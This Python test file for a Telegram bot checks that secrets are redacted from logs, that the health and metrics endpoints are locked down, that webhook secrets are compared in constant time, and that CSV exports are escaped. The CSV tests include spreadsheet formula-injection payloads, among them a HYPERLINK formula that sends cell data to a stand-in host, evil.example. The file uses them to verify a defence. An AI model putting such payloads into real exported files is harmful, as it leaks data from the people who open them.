"""Secrets stay secret: a log scan of the real process at DEBUG with JSON logs (start, webhook set-up, faults,
a rejected token), the health server's address and metrics token, the webhook secret check, and CSV
export cells that a spreadsheet would run as formulas."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import logging
import os
import signal
import socket
import sys
from pathlib import Path

import httpx
import pytest
from pydantic import SecretStr
from telegram.ext._utils.webhookhandler import TelegramHandler

from bot.logs import JsonFormatter, RedactingFormatter, secrets_of
from bot.services.admin import csv_cell
from bot.settings import Settings
from bot.webhook_secret import secret_matches
from tests.e2e.admin_helpers import ADMIN, admin_settings
from tests.e2e.harness import WEBHOOK_SECRET, bot_in_mode, free_port, make_settings, running_bot
from tests.standin import BotApiStandIn
from tests.standin.server import Fault, server_error

ROOT = Path(__file__).resolve().parents[2]
HOOK_SECRET = "whsec_Zq8-Lm3Pv7Tn"


def bot_env(server: BotApiStandIn, sqlite_url: str, **extra: str) -> dict[str, str]:
    return {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "TELEGRAM_BOT_TOKEN": server.token,
        "TELEGRAM_API_BASE_URL": server.base_url,
        "DATABASE_URL": sqlite_url,
        "FEED_URLS": "http://127.0.0.1:9/rss",  # refused: a fault worth logging
        "SCHEDULER_TICK_SECONDS": "0.5",
        "HEALTH_PORT": "0",
        "LOG_LEVEL": "DEBUG",
        "LOG_JSON": "true",
        **extra,
    }


async def run_bot(env: dict[str, str], *args: str) -> asyncio.subprocess.Process:
    return await asyncio.create_subprocess_exec(
        sys.executable, "-m", "bot", "run", *args, cwd=ROOT, env=env,
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
    )  # fmt: skip


def assert_no_secret(output: str, server: BotApiStandIn) -> None:
    token_secret = server.token.split(":", 1)[1]
    for secret in (server.token, token_secret, HOOK_SECRET):
        assert secret not in output


@pytest.mark.slow
async def test_log_scan_at_debug_through_webhook_faults_and_a_rejected_token(
    server: BotApiStandIn, sqlite_url: str
) -> None:
    port = free_port()
    env = bot_env(
        server,
        sqlite_url,
        WEBHOOK_URL="https://bot.example.org",
        WEBHOOK_SECRET=HOOK_SECRET,
        WEBHOOK_LISTEN="127.0.0.1",
        PORT=str(port),
    )
    server.webhook_deliver_to = f"http://127.0.0.1:{port}/telegram"
    bot = await run_bot(env, "--webhook")
    try:
        for _ in range(300):  # until setWebhook has been called
            if server.webhook_url:
                break
            await asyncio.sleep(0.1)
        assert server.webhook_secret == HOOK_SECRET
        server.fail_next("sendMessage", error=server_error())  # a fault: the reply fails, is logged
        server.inject_message("/start", chat_id=4343)
        await server.wait_for(chat_id=4343, contains="Có lỗi", timeout=30)
        server.inject_message("/start", chat_id=4343)
        await server.wait_for(chat_id=4343, contains="vẫn đang nhận tin", timeout=30)
        wrong = await server.post_update_with_secret({"message": {"text": "/start"}}, HOOK_SECRET[:-1] + "x")
        assert wrong == 403
        await asyncio.sleep(1.5)  # a feed poll fails meanwhile and is logged
    finally:
        bot.send_signal(signal.SIGTERM)
        out, err = await asyncio.wait_for(bot.communicate(), 30)
    first = err.decode() + out.decode()
    assert bot.returncode == 0
    records = [json.loads(line) for line in err.decode().splitlines() if line.strip()]
    messages = "\n".join(r["message"] + r.get("exception", "") for r in records)
    assert "setWebhook" in messages and "<redacted>" in messages  # the library's DEBUG line, redacted
    assert any(r["level"] == "WARNING" and "failed" in r["message"] for r in records)  # the feed fault
    assert_no_secret(first, server)

    server.fail_next("getMe", error=Fault("error", 401, "Unauthorized"), count=10)
    rejected = await run_bot(bot_env(server, sqlite_url))
    out, err = await asyncio.wait_for(rejected.communicate(), 60)
    second = err.decode() + out.decode()
    assert rejected.returncode == 2
    assert "Telegram rejected TELEGRAM_BOT_TOKEN" in second
    assert_no_secret(second, server)


def test_every_logger_and_traceback_is_redacted() -> None:
    settings = Settings(
        telegram_bot_token=SecretStr("123456:AAH-secretPartOfTheToken"),
        webhook_secret=SecretStr(HOOK_SECRET),
        metrics_token=SecretStr("metrics-bearer-9f8e7d"),
        database_url="postgresql://bot:db-pa55word@db/bot",
        feed_urls=("https://sokhcn.tayninh.gov.vn/vi/news/rss/",),
    )
    formatter = RedactingFormatter(JsonFormatter(), secrets_of(settings))
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(formatter)
    library = logging.getLogger("telegram.Bot")
    library.addHandler(handler)
    library.setLevel(logging.DEBUG)
    try:
        library.debug(
            "Calling Bot API endpoint `%s` with parameters `%s`",
            "setWebhook",
            {"url": "https://bot.example.org/telegram", "secret_token": HOOK_SECRET},
        )
        try:
            raise RuntimeError("GET https://api.telegram.org/bot123456%3AAAH-secretPartOfTheToken/getMe")
        except RuntimeError:
            library.exception("request failed for token %s", "123456:AAH-secretPartOfTheToken")
        library.warning(
            "secret part alone: AAH-secretPartOfTheToken; bearer metrics-bearer-9f8e7d; db-pa55word"
        )
    finally:
        library.removeHandler(handler)
    output = stream.getvalue()
    for secret in ("AAH-secretPartOfTheToken", HOOK_SECRET, "metrics-bearer-9f8e7d", "db-pa55word"):
        assert secret not in output
    lines = [json.loads(line) for line in output.splitlines()]
    assert len(lines) == 3 and "setWebhook" in lines[0]["message"] and "<redacted>" in lines[0]["message"]
    assert "RuntimeError" in lines[1]["exception"] and "<redacted>" in lines[1]["exception"]


def outward_address() -> str | None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))  # no packet is sent: only picks the outgoing interface
        except OSError:
            return None
        address = str(probe.getsockname()[0])
    return None if address.startswith("127.") else address


async def reachable(url: str, headers: dict[str, str] | None = None) -> int | None:
    async with httpx.AsyncClient(timeout=2) as client:
        try:
            return (await client.get(url, headers=headers)).status_code
        except httpx.ConnectError:
            return None


@pytest.mark.skipif(outward_address() is None, reason="no non-loopback IPv4 address to probe from")
async def test_health_server_listens_on_loopback_by_default(server: BotApiStandIn, sqlite_url: str) -> None:
    address = outward_address()
    assert address is not None
    port = free_port()
    async with running_bot(make_settings(server, sqlite_url, health_port=port)):
        assert await reachable(f"http://127.0.0.1:{port}/healthz") == 200
        assert await reachable(f"http://{address}:{port}/healthz") is None
    port = free_port()
    async with running_bot(make_settings(server, sqlite_url, health_port=port, health_listen="0.0.0.0")):
        assert await reachable(f"http://{address}:{port}/healthz") == 200


async def test_metrics_behind_a_bearer_token(server: BotApiStandIn, sqlite_url: str) -> None:
    port = free_port()
    token = "metrics-bearer-9f8e7d"
    url = f"http://127.0.0.1:{port}/metrics"
    async with running_bot(make_settings(server, sqlite_url, health_port=port, metrics_token=token)):
        assert await reachable(url) == 401
        assert await reachable(url, {"Authorization": "Bearer wrong-token-0000000"}) == 401
        assert await reachable(url, {"Authorization": f"Basic {token}"}) == 401
        assert await reachable(url, {"Authorization": f"Bearer {token}"}) == 200
        assert await reachable(f"http://127.0.0.1:{port}/healthz") == 200  # health stays open


def test_secret_comparison() -> None:
    assert secret_matches(HOOK_SECRET, HOOK_SECRET)
    assert not secret_matches(HOOK_SECRET[:-1], HOOK_SECRET)
    assert not secret_matches(None, HOOK_SECRET)
    assert not secret_matches("", HOOK_SECRET)
    assert not secret_matches("ß" + HOOK_SECRET, HOOK_SECRET)


async def test_webhook_requests_need_the_exact_secret(server: BotApiStandIn, sqlite_url: str) -> None:
    async with bot_in_mode("webhook", server, sqlite_url):
        assert TelegramHandler._validate_post.__module__ == "bot.webhook_secret"  # the constant-time check
        for wrong in ("", WEBHOOK_SECRET[:-1], WEBHOOK_SECRET + "x", WEBHOOK_SECRET.upper()):
            status = await server.post_update_with_secret({"message": {"text": "/start"}}, wrong)
            assert status == 403
        server.inject_message("/start", chat_id=4545)
        await server.wait_for(chat_id=4545, contains="Xin chào")


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example","Bấm")', '\'=HYPERLINK("http://evil.example","Bấm")'),
        ("+84 912", "'+84 912"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Tổ dân phố 3", "Tổ dân phố 3"),
        ("", ""),
    ],
)
def test_csv_cells_are_neutralised(cell: str, written: str) -> None:
    assert csv_cell(cell) == written


async def test_export_neutralises_a_formula_title_and_keeps_ids(
    server: BotApiStandIn, sqlite_url: str
) -> None:
    async with running_bot(admin_settings(server, sqlite_url)) as svc:
        await svc.store.chats.subscribe(
            -100_777,
            type="supergroup",
            title='=HYPERLINK("http://evil.example/?d="&A1,"Xem")',
            username="@group",
            language="vi",
            now=svc.clock.now(),
        )
        server.inject_message("/export", chat_id=ADMIN)
        document = await server.wait_for(chat_id=ADMIN, method="sendDocument")
    [upload] = document.files.values()
    rows = list(csv.DictReader(io.StringIO(upload.data.decode("utf-8-sig"))))
    [group] = [r for r in rows if r["id"] == "-100777"]  # a negative id stays a number
    assert group["title"] == '\'=HYPERLINK("http://evil.example/?d="&A1,"Xem")'
    assert group["username"] == "'@group"
